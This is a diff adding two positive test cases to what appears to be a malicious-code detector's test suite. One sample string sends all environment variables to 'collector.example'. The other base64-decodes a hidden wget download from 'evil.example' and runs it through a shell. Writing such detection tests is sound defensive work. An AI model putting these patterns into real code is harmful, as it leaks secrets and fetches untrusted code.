@@ -308,6 +308,27 @@ POSITIVES += [
         "                   shell=True)\n",
         {(DOWNLOAD, H)},
     ),
+    Case(
+        "environment gathered into a dict and sent",
+        "import os, requests\n"
+        "def report():\n"
+        "    data = {}\n"
+        "    for key, value in os.environ.items():\n"
+        "        data[key] = value\n"
+        "    requests.get('https://collector.example/h/' + str(data))\n",
+        {("WC-CODE-EXFILTRATION", H)},
+    ),
+    Case(
+        "command decoded by a helper",
+        "import base64, subprocess\n"
+        "def decode_str(text):\n"
+        "    raw = base64.b64decode(text)\n"
+        "    return raw.decode('utf-8')\n"
+        "def go():\n"
+        "    command = decode_str('d2dldCAtcU8gL3RtcC94IGh0dHBzOi8vZXZpbC5leGFtcGxl')\n"
+        "    subprocess.run(command, shell=True)\n",
+        {(DECODE, H)},
+    ),
 ]
 
 NEGATIVES = [
